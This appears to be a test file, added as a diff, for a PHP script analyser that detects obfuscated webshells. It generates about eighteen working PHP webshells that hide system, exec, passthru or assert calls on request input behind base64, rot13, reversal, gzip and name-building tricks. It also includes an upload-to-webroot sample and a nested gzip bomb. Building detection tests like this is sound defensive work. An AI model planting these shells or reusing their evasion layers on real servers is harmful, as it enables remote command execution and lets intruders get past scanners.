@@ -1,0 +1,159 @@
+// Obfuscated shells written by the team from common hiding techniques. Each
+// must end in its inner dangerous call being reported with tainted input.
+
+#include "builtin_trace.h"
+
+#include "qz_limits.h"
+
+#include <gtest/gtest.h>
+#include <zlib.h>
+
+#include <algorithm>
+#include <fstream>
+#include <sstream>
+#include <string>
+#include <vector>
+
+namespace {
+
+using builtin_trace::b64;
+using builtin_trace::run;
+using builtin_trace::ScriptTest;
+using builtin_trace::Trace;
+
+std::string deflate_with(const std::string& text, int window_bits) {
+  z_stream zs{};
+  deflateInit2(&zs, 9, Z_DEFLATED, window_bits, 8, Z_DEFAULT_STRATEGY);
+  std::string out(deflateBound(&zs, text.size()), '\0');
+  zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(text.data()));
+  zs.avail_in = static_cast<uInt>(text.size());
+  zs.next_out = reinterpret_cast<Bytef*>(&out[0]);
+  zs.avail_out = static_cast<uInt>(out.size());
+  deflate(&zs, Z_FINISH);
+  out.resize(zs.total_out);
+  deflateEnd(&zs);
+  return out;
+}
+
+std::string rot13(std::string s) {
+  for (char& c : s) {
+    if (c >= 'a' && c <= 'z') c = static_cast<char>('a' + (c - 'a' + 13) % 26);
+    if (c >= 'A' && c <= 'Z') c = static_cast<char>('A' + (c - 'A' + 13) % 26);
+  }
+  return s;
+}
+
+std::string reversed(std::string s) {
+  std::reverse(s.begin(), s.end());
+  return s;
+}
+
+struct Shell {
+  const char* what;
+  std::string script;
+  std::string inner;     // the call that must be reported
+  bool needs_full_decode;
+};
+
+std::vector<Shell> shells() {
+  // Payloads carried raw inside a quoted literal use no quotes of their own.
+  const std::string payload = "system($_POST[c]);";
+  const std::string inner = "system($_POST_DATA)";
+  return {
+      {"base64", "<?php eval(base64_decode('" + b64(payload) + "'));", inner, false},
+      {"rot13", "<?php eval(str_rot13('" + rot13("system($_GET[c]);") + "'));",
+       "system($_GET_DATA)", false},
+      {"strrev", "<?php eval(strrev('" + reversed(payload) + "'));", inner, false},
+      {"base64 of strrev", "<?php $x = strrev('" + reversed(b64(payload)) +
+                               "'); eval(base64_decode($x));", inner, false},
+      {"urlencoded", "<?php eval(urldecode('%73%79%73%74%65%6d($_COOKIE[%27k%27]);'));",
+       "system($_COOKIE_DATA)", false},
+      {"create_function", "<?php $f = create_function('', base64_decode('" +
+                              b64("system($_REQUEST['x']);") + "')); $f();",
+       "system($_REQUEST_DATA)", false},
+      {"preg_replace e", "<?php preg_replace('/.*/e', base64_decode('" +
+                             b64("passthru($_GET['c']);") + "'), '');",
+       "passthru($_GET_DATA)", false},
+      {"variable function", "<?php $a = 'sys'; $b = 'tem'; $f = $a . $b; $f($_GET['c']);",
+       "system($_GET_DATA)", false},
+      {"replace-built name", "<?php $f = str_replace('#', '', 'a#s#s#e#r#t'); $f($_POST['c']);",
+       "assert($_POST_DATA)", false},
+      {"chr-built name", "<?php $f = chr(101).chr(120).chr(101).chr(99); $f($_GET['c']);",
+       "exec($_GET_DATA)", false},
+      {"extract", "<?php extract($_GET); $cmd($arg);", "eval($_POST_DATA)", false},
+      {"uploaded file", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
+       "move_uploaded_file($_FILES_DATA_DATA|$_FILES_DATA_DATA)", false},
+      {"file write of code", "<?php $h = fopen('x.php', 'w'); fwrite($h, base64_decode('" +
+                                 b64(payload) + "'));", inner, false},
+      {"nested layers", "<?php eval(base64_decode('" +
+                            b64("eval(str_rot13(\"" + rot13("eval(strrev('" + reversed(payload) +
+                                                            "'));") + "\"));") + "'));",
+       inner, false},
+      {"gzinflate", "<?php eval(gzinflate(base64_decode('" + b64(deflate_with(payload, -15)) +
+                        "')));", inner, true},
+      {"gzuncompress", "<?php eval(gzuncompress(base64_decode('" +
+                           b64(deflate_with(payload, 15)) + "')));", inner, true},
+      {"gzinflate of strrev of base64", "<?php eval(gzinflate(base64_decode(strrev('" +
+                                            reversed(b64(deflate_with(payload, -15))) + "'))));",
+       inner, true},
+      {"long rot13 layer", "<?php eval(str_rot13('" + rot13(std::string(1200, ' ') + payload) +
+                               "'));", inner, true},
+  };
+}
+
+using ObfuscatedShell = ScriptTest;
+
+TEST_F(ObfuscatedShell, InnerCallIsReportedWithItsTaint) {
+  for (const auto& shell : shells()) {
+    SCOPED_TRACE(shell.what);
+    Trace t = run(shell.script, QZ_OPT_FULL_DECODE);
+    EXPECT_TRUE(t.has(shell.inner)) << shell.script << "\n" << t.joined();
+  }
+}
+
+TEST_F(ObfuscatedShell, CompressedLayersStayHiddenWithoutFullDecoding) {
+  for (const auto& shell : shells()) {
+    if (!shell.needs_full_decode) continue;
+    SCOPED_TRACE(shell.what);
+    Trace t = run(shell.script, 0);
+    EXPECT_FALSE(t.has(shell.inner)) << t.joined();
+  }
+}
+
+TEST_F(ObfuscatedShell, GzipBombEndsAtTheStringCap) {
+  // Compressed twice: a few hundred bytes that inflate to 32 KiB and then to
+  // 32 MiB, twice the string cap.
+  std::string filler(2 * QZ_MAX_STRING_LENGTH, 'A');
+  std::string bomb = deflate_with(deflate_with(filler, -15), -15);
+  filler.clear();
+  filler.shrink_to_fit();
+  ASSERT_LT(bomb.size(), 3000u);
+  Trace t = run("<?php eval(gzinflate(gzinflate(base64_decode('" + b64(bomb) +
+                    "')))); after($_GET['x']);",
+                QZ_OPT_FULL_DECODE);
+  EXPECT_TRUE(t.has("eval(qz_decoded)")) << t.joined();
+  EXPECT_TRUE(t.has("after($_GET_DATA)"));
+}
+
+// The sample shells under tests/data/shells each name their inner call on
+// their first line, in a comment: "// expect: name(args)".
+TEST_F(ObfuscatedShell, SampleFiles) {
+  const std::vector<std::string> files = {"layered_base64.php", "rot13_strrev.php",
+                                          "split_name.php"};
+  for (const auto& name : files) {
+    SCOPED_TRACE(name);
+    std::ifstream in(std::string(QZ_SOURCE_DIR) + "/tests/data/shells/" + name);
+    ASSERT_TRUE(in.good());
+    std::stringstream body;
+    body << in.rdbuf();
+    std::string text = body.str();
+    std::string marker = "// expect: ";
+    size_t at = text.find(marker);
+    ASSERT_NE(at, std::string::npos);
+    std::string expect = text.substr(at + marker.size(), text.find('\n', at) - at - marker.size());
+    Trace t = run(text, QZ_OPT_FULL_DECODE);
+    EXPECT_TRUE(t.has(expect)) << expect << " in\n" << t.joined();
+  }
+}
+
+}  // namespace
